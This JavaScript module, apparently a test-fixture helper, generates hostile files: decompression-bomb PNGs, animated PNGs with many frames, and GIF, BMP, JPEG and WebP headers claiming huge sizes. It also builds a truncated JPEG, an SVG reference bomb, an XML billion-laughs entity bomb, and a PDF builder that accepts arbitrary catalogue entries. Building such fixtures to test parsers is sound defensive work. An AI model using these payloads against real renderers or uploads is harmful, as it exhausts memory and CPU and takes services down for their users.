// Pictures and documents that attack whoever shows them.

import { crc32, deflateSync } from "node:zlib";

const be = (number, size = 4) => {
  const bytes = Buffer.alloc(size);
  bytes.writeUIntBE(number, 0, size);
  return bytes;
};
const le = (number, size = 4) => {
  const bytes = Buffer.alloc(size);
  bytes.writeUIntLE(number, 0, size);
  return bytes;
};

const chunk = (type, data) => {
  const named = Buffer.concat([Buffer.from(type), data]);
  return Buffer.concat([be(data.length), named, be(crc32(named))]);
};

const PNG_START = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");
const header = (side, depth) => chunk("IHDR", Buffer.concat([be(side), be(side), Buffer.from([depth, 0, 0, 0, 0])]));

/** A PNG, black, so many pixels square. */
export const png = (side) =>
  Buffer.concat([
    PNG_START,
    header(side, 1),
    chunk("IDAT", deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))), { level: 1 })),
    chunk("IEND", Buffer.alloc(0)),
  ]);

/** An animated PNG of so many frames of 2,000 pixels square. */
export function animated(frames) {
  const side = 2_000;
  const pixels = deflateSync(Buffer.alloc(side * (1 + side / 8)), { level: 1 });
  const parts = [PNG_START, header(side, 1), chunk("acTL", Buffer.concat([be(frames), be(0)]))];
  let sequence = 0;
  for (let frame = 0; frame < frames; frame += 1) {
    const control = [be(sequence++), be(side), be(side), be(0), be(0), be(1, 2), be(1000, 2), Buffer.from([0, 0])];
    parts.push(chunk("fcTL", Buffer.concat(control)));
    parts.push(frame === 0 ? chunk("IDAT", pixels) : chunk("fdAT", Buffer.concat([be(sequence++), pixels])));
  }
  return Buffer.concat([...parts, chunk("IEND", Buffer.alloc(0))]);
}

/** A GIF that says that it is so large. */
export const gif = (side) =>
  Buffer.concat([
    Buffer.from("GIF89a"),
    le(side, 2),
    le(side, 2),
    Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2c]),
    le(0),
    le(side, 2),
    le(side, 2),
    Buffer.from([0, 2, 2, 0x44, 1, 0, 0x3b]),
  ]);

/** A BMP of one bit a pixel that says that it is so large. */
export const bmp = (side) =>
  Buffer.concat([
    Buffer.from("BM"), le(0), le(0), le(62), le(40), le(side), le(side), le(1, 2), le(1, 2), le(0), le(0), le(0), le(0), le(2), le(0),
    le(0), le(0xffffff), Buffer.alloc(64),
  ]);

/** A baseline JPEG of one component that says that it is so large; its data ends early. */
export const jpeg = (side) => {
  const segment = (marker, data) => Buffer.concat([Buffer.from([0xff, marker]), be(data.length + 2, 2), data]);
  const table = Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)]);
  const huffman = (kind) => Buffer.concat([Buffer.from([kind, 0, 1, ...Buffer.alloc(14), 0])]);
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xe0, Buffer.from("JFIF\0\x01\x01\0\0\x01\0\x01\0\0", "latin1")),
    segment(0xdb, table),
    segment(0xc0, Buffer.concat([Buffer.from([8]), be(side, 2), be(side, 2), Buffer.from([1, 1, 0x11, 0])])),
    segment(0xc4, huffman(0x00)),
    segment(0xc4, huffman(0x10)),
    segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])),
    Buffer.alloc(2_000),
    Buffer.from([0xff, 0xd9]),
  ]);
};

/** A lossless WebP that says that it is so large, 16,384 at most. */
export const webp = (side) => {
  const bits = Buffer.alloc(64);
  bits[0] = 0x2f;
  bits.writeUInt32LE(((side - 1) | ((side - 1) << 14)) >>> 0, 1);
  const body = Buffer.concat([Buffer.from("WEBPVP8L"), le(bits.length), bits]);
  return Buffer.concat([Buffer.from("RIFF"), le(body.length), body]);
};

/** A PDF whose catalogue has these entries; `more` are further objects. */
export const pdf = (catalogue, more = "") =>
  [
    "%PDF-1.7",
    `1 0 obj<</Type/Catalog/Pages 2 0 R ${catalogue}>>endobj`,
    "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj",
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj",
    more,
    "trailer<</Root 1 0 R>>",
    "%%EOF\n",
  ].join("\n");

/** An SVG in which each group shows the one before ten times. */
export const svgBomb = () => {
  const groups = Array.from({ length: 12 }, (_, n) => `<g id="g${n + 1}">${`<use href="#g${n}"/>`.repeat(10)}</g>`);
  return `<svg xmlns="http://www.w3.org/2000/svg"><defs><rect id="g0" width="9" height="9"/>${groups.join("")}</defs><use href="#g12"/></svg>`;
};

/** XML in which each entity stands for ten of the one before. */
export const xmlBomb = () => {
  const entities = Array.from({ length: 10 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">${entities.join("")}]><x>&e10;</x>`;
};
